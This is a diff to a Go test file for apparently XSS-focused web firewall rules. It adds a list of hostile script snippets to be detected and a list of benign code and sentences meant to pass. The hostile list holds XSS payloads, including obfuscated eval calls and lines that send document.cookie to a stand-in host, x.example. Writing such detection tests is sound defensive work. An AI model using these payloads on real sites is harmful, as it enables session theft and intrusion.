@@ -60,3 +60,36 @@ func TestWhatIsWrittenAboutFunctionsIsNoCallOfPHP(t *testing.T) {
 		verdicts{rule: rule, denied: honestPHP}.check(t)
 	}
 }
+
+// hostileScripts run in a page whatever the page is: by what they call and give it, by what they leave, or by how they hide a name.
+var hostileScripts = []string{
+	"alert(1)", "alert('x')", "alert(document.domain)", "prompt`1`", "confirm(/x/)", "(alert)(1)", "window.alert(1)", "alert /* a */ (1)", "alert?.(1)", "[1].find(alert)", "['a'].map(alert)", "eval('1+1')", "eval(atob('YQ=='))",
+	"eval(name)", "eval(location.hash.slice(1))", "eval(`1`)", "Function('alert(1)')()", "new Function`alert(1)`", "[].constructor.constructor('x()')()", "setTimeout('x()')", "setTimeout(`x()`)", "setInterval('x=1')",
+	"top['al'+'ert'](1)", "self[\"ale\"+\"rt\"](1)", "window['alert'](1)", "this['eval']('x')", "document['cookie']", "window[`al`+`ert`](1)", "parent['alert'](1)", "globalThis['al'+'ert'](1)", "top?.['al'+'ert'](1)",
+	"';alert(1)//", "'-alert(1)-'", "\"-alert`1`-\"", "';fetch(u)//", "'+open(u)+'", "';document.write(a)//", "'-import(u)-'", "fetch('//x.example/'+document.cookie)", "fetch('//x.example')", "import('//x.example/a.js')",
+	"new Image().src='//x.example/'+document.cookie", "location='//x.example/?'+document.cookie", "x=`//x.example/${document.cookie}`", "document/**/.cookie", "throw document.cookie", "onerror=alert;throw 1", "{onerror=eval}throw'=x'",
+	"window.onerror=alert", "[].sort.call`${alert}1`", "String.fromCharCode(97,108)", "document.write(1)", "'-document.write`a`-'", "\" onfocus=x() autofocus y=\"", "' onmouseover=a[b](c) '", "onload=x=>a.b('//x.example')", "<x onxxx=1",
+	"{{constructor.constructor('x()')()}}", "atob('YQ==')", "<svg/onload=x()>", "javascript:x()", "<script>x</script>", "data:text/html,<script>x</script>", "<a xmlns=\"b\" xsi:schemaLocation=\"b http://x.example/a.xsd\">c</a>",
+}
+
+// honestScripts are programs that people show, and sentences about them.
+var honestScripts = []string{
+	"Use alert() sparingly: it stops the page", "alert(): You have unsaved changes", "the function fetch() loads a page", "const res = await fetch('https://example.com/a', { method: 'POST' });", "const a = await import('./a.js');",
+	"import('lodash').then(use)", "const { map } = require('a');\nmap(a, b)", "list.map(x => x + 1)", "names.sort(compare).join(', ')", "items.find(function (i) { return i.id === id })", "Object.assign(a, b)", "window.open(url)", "file.open('a', 'r')",
+	"setTimeout(() => { done(); }, 100)", "setTimeout(next, 10)", "function(a) { return a }", "new Function(\"Vue\", code)(shared)", "class A { constructor(a) { this.a = a } }", "eval(context) { return 1 }",
+	"this[key] = value", "this[method](a, b)", "window[name]", "self.a['b'](c)", "document.querySelector('a')", "const c = document.cookie.split(';')", "return this['handlers'].length", "top of the page [1]",
+	"if (location.hash) { scroll() }", "x.innerHTML = html", "localStorage.getItem('a')", "app.on('exit', function (code) { stop() })", "once=true", "onChange={(e) => set(e)}", "const onDone = start('a')", "x.onload = init",
+	"rl.prompt();", "print(a)", "print(`usage`)", "rl.question('a', b)", "decodeURIComponent(a)", "String.fromCharCode(code)", "console.log('a')", "document.write('a')", "xhr.open('GET', url)",
+	"navigator.sendBeacon(url, data)", "a: [alert, warning]", "the eval function", "`.call` and `.apply`", "throw new Error('a')", "var desc = Object.getOwnPropertyDescriptor(m, k);", "<project xmlns=\"a\" xsi:schemaLocation=\"a b.xsd\"><id>c</id></project>",
+	"text-align:center;on=1", "conference=a(b)", "season=b(c)", "https://example.com/?once=1&online=2", "price on=off", "evaluate(ast)", "'a', fetch(b)", "['x', import(y)]",
+}
+
+func TestScriptsCountWhateverStandsAroundThem(t *testing.T) {
+	checkPadded(t, 941390, hostileScripts)
+}
+
+func TestScriptsThatPeopleShowAreDenied(t *testing.T) {
+	for _, rule := range []int{941100, 941160, 941180, 941370, 941390} {
+		verdicts{rule: rule, denied: honestScripts}.check(t)
+	}
+}
